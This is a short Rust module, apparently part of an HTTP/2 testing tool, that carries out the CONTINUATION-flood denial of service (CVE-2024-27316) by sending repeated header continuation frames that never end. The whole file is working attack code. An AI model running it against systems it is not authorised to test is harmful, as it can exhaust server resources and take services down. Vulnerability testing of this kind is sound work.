//! A header block that never ends: CONTINUATION after CONTINUATION without END_HEADERS (CVE-2024-27316 and kin).

use super::Outcome;
use super::frames::{CONTINUATION, HEADERS, Peer, frame, literal, request};
use crate::Target;
use anyhow::Result;
use std::time::Duration;

/// Sends so many CONTINUATION frames of a kibibyte each.
pub async fn run(target: &Target, frames: u32) -> Result<Outcome> {
    let mut peer = Peer::connect(target, &[]).await?;
    let _ = peer.send(&frame(HEADERS, 0, 1, &request("GET", &target.authority(), "/"))).await;
    let more = frame(CONTINUATION, 0, 1, &literal(b"x-filler", &[b'a'; 1000]));
    for _ in 0..frames {
        peer.poll().await?;
        if peer.is_closed() || peer.send(&more).await.is_err() {
            break;
        }
    }
    peer.end(Duration::from_secs(5)).await
}
